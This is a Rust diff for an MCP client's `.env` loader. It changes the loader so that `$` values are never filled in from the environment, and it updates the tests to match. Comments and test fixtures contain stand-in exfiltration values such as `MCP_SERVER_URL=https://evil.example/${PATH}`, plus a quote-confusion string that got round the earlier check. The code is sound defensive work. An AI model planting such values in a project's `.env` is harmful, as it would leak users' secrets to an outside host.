@@ -358,65 +358,35 @@ fn read_dotenv(path: &Path) -> Result<Vec<(String, String)>, ConfigError> {
     // process environment's: a `.env` (a cloned project's, for the client)
     // could copy any of the user's variables into a setting that is sent
     // somewhere (`MCP_SERVER_URL=https://host/${AWS_SECRET_ACCESS_KEY}`),
-    // and a secret holding `$` would be silently changed. Values are read
-    // as written only: a `$` outside single quotes is refused, naming the
-    // line.
-    if let Ok(text) = std::fs::read_to_string(path)
-        && let Some(line) = substituted_line(&text)
-    {
+    // and a secret holding `$` was silently changed. Values are read as
+    // written: the parser never sees a `$` (each, escaped or not, stands
+    // for a character no setting holds while it parses), so whatever its
+    // quoting rules make of a line, nothing is filled in.
+    let text = std::fs::read_to_string(path)
+        .map_err(|e| ConfigError::new(shown.to_string(), format!("cannot read: {e}")))?;
+    if text.contains(DOLLAR) {
         return Err(ConfigError::new(
             shown.to_string(),
-            format!(
-                "line {line}: a `$` in a value would be replaced from the environment; settings \
-                 are read as written: put the value in single quotes (or write \\$)"
-            ),
+            "holds U+F8FF, a character no setting may hold",
         ));
     }
+    let literal = text.replace("\\$", DOLLAR_STR).replace('$', DOLLAR_STR);
     // The error names the file as the setting at fault: `.env: syntax
     // error at character 26`.
-    let iter = dotenvy::from_path_iter(path)
-        .map_err(|e| ConfigError::new(shown.to_string(), format!("cannot read: {}", reason(&e))))?;
-    iter.map(|item| item.map_err(|e| ConfigError::new(shown.to_string(), reason(&e))))
+    dotenvy::from_read_iter(std::io::Cursor::new(literal))
+        .map(|item| {
+            item.map(|(k, v)| (k, v.replace(DOLLAR, "$")))
+                .map_err(|e| ConfigError::new(shown.to_string(), reason(&e)))
+        })
         .collect()
 }
 
-/// The first line (from 1) of a `.env` text whose value holds a `$` that
-/// `.env` rules would substitute: outside single quotes and not escaped
-/// (`\$`). Comments and lines without `=` are skipped.
+/// What stands for `$` while a `.env` is parsed (see `read_dotenv`): a
+/// private-use character.
 #[cfg(feature = "files")]
-fn substituted_line(text: &str) -> Option<usize> {
-    let mut in_single = false;
-    let mut in_double = false;
-    for (n, line) in text.lines().enumerate() {
-        // A quoted value may run over lines; a new line starts unquoted only
-        // when no quote is open.
-        let value = match (in_single || in_double, line.trim_start()) {
-            (true, _) => line,
-            (false, l) if l.starts_with('#') => continue,
-            (false, l) => match l.split_once('=') {
-                Some((_, v)) => v,
-                None => continue,
-            },
-        };
-        let mut chars = value.chars();
-        let mut after_space = false;
-        while let Some(c) = chars.next() {
-            match c {
-                '\'' if !in_double => in_single = !in_single,
-                '"' if !in_single => in_double = !in_double,
-                '\\' if !in_single => {
-                    chars.next();
-                }
-                // An unquoted ` #` starts a comment.
-                '#' if !in_single && !in_double && after_space => break,
-                '$' if !in_single => return Some(n + 1),
-                _ => {}
-            }
-            after_space = c.is_whitespace();
-        }
-    }
-    None
-}
+const DOLLAR: char = '\u{f8ff}';
+#[cfg(feature = "files")]
+const DOLLAR_STR: &str = "\u{f8ff}";
 
 /// Reads a flat TOML file. Errors give the line, never the line's text.
 #[cfg(feature = "files")]
@@ -575,10 +545,11 @@ mod tests {
         );
     }
 
-    /// `.env` values are read as written: a `$` that `.env` rules would
-    /// replace from the process environment is refused naming its line (a
-    /// cloned project's `.env` could copy the user's secrets into a URL the
-    /// client connects to); single-quoted and escaped ones are fine.
+    /// `.env` values are read as written, never filled in from the
+    /// environment, whatever their quoting (a cloned project's `.env` could
+    /// copy the user's secrets into a URL the client connects to; a check
+    /// of `$` outside single quotes was got round by a quote the parser's
+    /// line joiner and its value reader disagree on).
     #[cfg(feature = "files")]
     #[test]
     fn dotenv_values_are_never_filled_from_the_environment() {
@@ -586,29 +557,40 @@ mod tests {
         let dotenv = dir.path().join(".env");
         let known = ["MCP_SERVER_URL", "MCP_API_KEYS", "NAME"];
         let load = || Sources::new(&known).dotenv_file(&dotenv).merge();
-        for (text, line) in [
-            ("MCP_SERVER_URL=https://evil.example/${HOME}\n", 1),
-            ("NAME=a\nMCP_API_KEYS=k-0123456789abcdef$XYZ\n", 2),
-            ("NAME=\"x $HOME\"\n", 1),
-            ("# a comment\nNAME='open\nquote' MCP_SERVER_URL=$HOME\n", 3),
+        // The test's own environment has PATH; its value never shows.
+        let path = std::env::var("PATH").unwrap();
+        for (text, name, want) in [
+            (
+                "MCP_SERVER_URL=https://evil.example/${PATH}\n",
+                "MCP_SERVER_URL",
+                "https://evil.example/${PATH}",
+            ),
+            (
+                "MCP_API_KEYS=k-0123456789abcdef$PATH\n",
+                "MCP_API_KEYS",
+                "k-0123456789abcdef$PATH",
+            ),
+            ("NAME=\"x $PATH\"\n", "NAME", "x $PATH"),
+            ("NAME='k-$literal'\n", "NAME", "k-$literal"),
+            ("NAME=\"k-\\$5\"\n", "NAME", "k-$5"),
+            ("NAME=a$ # costs $5\n", "NAME", "a$"),
         ] {
             std::fs::write(&dotenv, text).unwrap();
-            let e = load().unwrap_err();
-            assert!(
-                e.to_string().contains(&format!("line {line}: a `$`")),
-                "{text:?}: {e}"
-            );
-            assert!(!e.to_string().contains("HOME"), "{e}");
+            let m = load().unwrap();
+            assert_eq!(m[name], want, "{text:?}");
         }
+        // The quote the line joiner takes as escaped and the value reader
+        // as closing: the next line is read unquoted, and was filled in.
         std::fs::write(
             &dotenv,
-            "NAME='k-$literal'\nMCP_API_KEYS=k-0123\\$5678\nMCP_SERVER_URL=http://h/mcp # costs $5\n",
+            "MCP_SERVER_URL='https://evil.example/x\\'\n${PATH}$X'\n",
         )
         .unwrap();
-        let m = load().unwrap();
-        assert_eq!(m["NAME"], "k-$literal");
-        assert_eq!(m["MCP_API_KEYS"], "k-0123$5678");
-        assert_eq!(m["MCP_SERVER_URL"], "http://h/mcp");
+        // (Read as written, its last quote is left open: refused.)
+        match load() {
+            Ok(m) => assert!(!m["MCP_SERVER_URL"].contains(&path), "{m:?}"),
+            Err(e) => assert!(e.to_string().contains("syntax error"), "{e}"),
+        }
     }
 
     #[cfg(feature = "files")]
